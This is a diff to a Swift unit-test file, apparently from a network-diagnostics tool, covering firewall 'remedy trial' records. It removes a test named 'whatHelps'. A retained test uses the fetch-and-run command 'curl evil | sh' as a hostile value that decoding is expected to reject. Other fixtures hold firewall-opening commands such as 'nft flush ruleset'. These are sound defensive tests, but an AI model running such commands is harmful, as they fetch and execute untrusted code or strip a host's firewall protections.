@@ -22,7 +22,7 @@ import Trace
 
   @Test func trialsAreKeptInSessions() throws {
     let trial = RemedyTrial(
-      remedy: "nft flush ruleset", isThrough: true,
+      remedy: "nft flush ruleset",
       obstacles: [
         .init(id: "policy-drop", summary: "it is dropped", remedy: "iptables -P INPUT ACCEPT"),
         .init(id: "no-route", summary: "there is none"),
@@ -33,20 +33,5 @@ import Trace
     var hostile = trial
     hostile.obstacles[0].remedy = "curl evil | sh"
     #expect(RemedyTrial(json: hostile.json)?.obstacles[0].remedy == nil)
-  }
-
-  @Test func whatHelps() {
-    let cause = Finding(
-      id: FindingID(rawValue: "policy-drop"), severity: .error, confidence: .certain,
-      summary: "dropped")
-    func trial(_ isThrough: Bool, _ met: (String, String)...) -> RemedyTrial {
-      RemedyTrial(
-        remedy: "nft x", isThrough: isThrough, obstacles: met.map { .init(id: $0.0, summary: $0.1) }
-      )
-    }
-    #expect(trial(true).helps(against: cause))
-    #expect(trial(false, ("no-route", "none")).helps(against: cause))
-    #expect(!trial(false, ("policy-drop", "dropped")).helps(against: cause))
-    #expect(!trial(false).helps(against: cause))
   }
 }
